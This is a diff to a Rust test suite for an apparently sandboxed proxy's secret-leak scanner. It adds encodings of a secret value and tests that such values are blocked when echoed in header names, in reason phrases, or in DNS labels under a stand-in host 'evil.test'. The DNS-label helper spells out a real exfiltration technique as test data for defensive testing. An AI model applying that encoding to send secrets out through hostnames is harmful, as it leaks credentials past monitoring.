@@ -80,6 +80,24 @@ fn encode(class: &str, v: &[u8]) -> Vec<u8> {
         "pct-full-lower" => pct(v, false, |_| true),
         "pct-partial" => pct(v, false, |i| i % 2 == 0),
         "pct-of-b64" => pct(&b64(&STANDARD), true, |_| true),
+        // `od -An -tx1`: spaced hex, 16 bytes a line.
+        "od-hex" => hex(v, false)
+            .chunks(2)
+            .enumerate()
+            .flat_map(|(i, pair)| {
+                let sep: &[u8] = if i > 0 && i % 16 == 0 { b"\n " } else { b" " };
+                [sep, pair].concat()
+            })
+            .collect(),
+        "colon-hex" => hex(v, true).chunks(2).collect::<Vec<_>>().join(&b':'),
+        "json-chars" => {
+            let parts: Vec<String> = v
+                .iter()
+                .map(|b| format!("\"{}\"", char::from(*b)))
+                .collect();
+            format!("[{}]", parts.join(", ")).into_bytes()
+        }
+        "dns-labels" => v.chunks(6).collect::<Vec<_>>().join(&b'.'),
         other => panic!("unknown class {other}"),
     }
 }
@@ -109,6 +127,10 @@ const CLASSES: &[&str] = &[
     "pct-full-lower",
     "pct-partial",
     "pct-of-b64@1",
+    "od-hex",
+    "colon-hex",
+    "json-chars",
+    "dns-labels",
 ];
 
 fn secrets() -> SecretRewriter {
@@ -157,21 +179,36 @@ async fn echo_upstream() -> (std::net::SocketAddr, Arc<Mutex<Vec<String>>>) {
                             .get("authorization")
                             .map(|v| v.as_bytes().to_vec())
                             .unwrap_or_default();
-                        let echoed = match parts.uri.path().strip_prefix("/echo/") {
-                            Some(class) => encode(class, &auth),
+                        let path = parts.uri.path().to_owned();
+                        let echoed = match path.split_once("/echo/") {
+                            Some((_, class)) => encode(class, &auth),
                             None => b"ok".to_vec(),
                         };
                         let mut out = b"echo[".to_vec();
                         out.extend_from_slice(&echoed);
                         out.extend_from_slice(b"]");
                         let frames = out.chunks(3).map(Bytes::copy_from_slice).collect();
-                        let header = String::from_utf8_lossy(&echoed).into_owned();
-                        Ok::<_, Infallible>(
-                            hyper::Response::builder()
-                                .header("x-echo", header)
-                                .body(Dribble(frames))
-                                .unwrap(),
-                        )
+                        // A header cannot hold a line break: it gets a space instead.
+                        let header = String::from_utf8_lossy(&echoed).replace('\n', " ");
+                        let mut resp = hyper::Response::builder()
+                            .header("x-echo", header)
+                            .body(Dribble(frames))
+                            .unwrap();
+                        // `/name/echo/<class>`: also as a header name; `/reason/…`: as the
+                        // status line's reason phrase.
+                        if path.starts_with("/name/")
+                            && let Ok(name) = hyper::header::HeaderName::from_bytes(
+                                &[b"x-".as_slice(), &echoed].concat(),
+                            )
+                        {
+                            resp.headers_mut().insert(name, "1".parse().unwrap());
+                        }
+                        if path.starts_with("/reason/")
+                            && let Ok(reason) = hyper::ext::ReasonPhrase::try_from(echoed.clone())
+                        {
+                            resp.extensions_mut().insert(reason);
+                        }
+                        Ok::<_, Infallible>(resp)
                     }
                 });
                 let _ = hyper::server::conn::http1::Builder::new()
@@ -463,4 +500,79 @@ async fn unrelated_traffic_toward_an_unscoped_host_still_passes() {
         assert_eq!(status, 200);
     }
     assert_eq!(seen.lock().unwrap().len(), 3);
+}
+
+#[tokio::test]
+async fn a_value_echoed_as_a_header_name_or_a_reason_phrase_never_reaches_the_sandbox() {
+    let (addr, _) = echo_upstream().await;
+    let h = plain_harness().await;
+    let port = addr.port();
+    for class in ["raw", "hex", "b64url-nopad@1", "reversed"] {
+        for place in ["name", "reason"] {
+            let (head, _) = send_head(
+                h.addr(),
+                &format!(
+                    "GET http://scoped.test:{port}/{place}/echo/{class} HTTP/1.1\r\nHost: scoped.test:{port}\r\nAuthorization: __ITERION_SECRET_API_KEY__\r\nProxy-Authorization: Bearer {TOKEN}\r\n\r\n"
+                ),
+            )
+            .await;
+            assert_eq!(status_of(&head), 200, "{head}");
+            assert_eq!(leaks(head.as_bytes()), None, "{class} as {place}: {head}");
+        }
+    }
+}
+
+/// A name made of DNS labels that carry `enc`.
+fn labelled(enc: &[u8]) -> String {
+    let clean: Vec<u8> = enc
+        .iter()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                b.to_ascii_lowercase()
+            } else {
+                b'-'
+            }
+        })
+        .collect();
+    let labels: Vec<&str> = clean
+        .chunks(30)
+        .map(|c| std::str::from_utf8(c).unwrap().trim_matches('-'))
+        .collect();
+    format!("{}.evil.test", labels.join("."))
+}
+
+#[tokio::test]
+async fn a_value_in_the_target_name_is_refused_before_it_is_resolved() {
+    // Denylist with no rule: every name is allowed, so only the secret scan stands between the
+    // name and the resolver (a DNS query is itself the exfiltration).
+    let h = start(Options {
+        mode: "denylist",
+        rules: &[],
+        hosts: "",
+        secrets: Some(secrets()),
+        inspect: true,
+        ..Default::default()
+    })
+    .await;
+    for class in ["hex", "HEX", "hex-reversed", "raw"] {
+        let host = labelled(&encode(class, REAL.as_bytes()));
+        let (head, _) = connect(h.addr(), &format!("{host}:443")).await;
+        assert_eq!(status_of(&head), 403, "{class}: {host}: {head}");
+        let (head, _) = send_head(
+            h.addr(),
+            &format!(
+                "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: Bearer {TOKEN}\r\n\r\n"
+            ),
+        )
+        .await;
+        assert_eq!(status_of(&head), 403, "{class}: {host}: {head}");
+    }
+    assert!(
+        h.events()
+            .iter()
+            .all(|e| e.reason == BlockReason::SecretExfiltration)
+    );
+    // An unrelated name is resolved as usual (and fails: there is no DNS in tests).
+    let (head, _) = connect(h.addr(), "plain.evil.test:443").await;
+    assert_eq!(status_of(&head), 502, "{head}");
 }
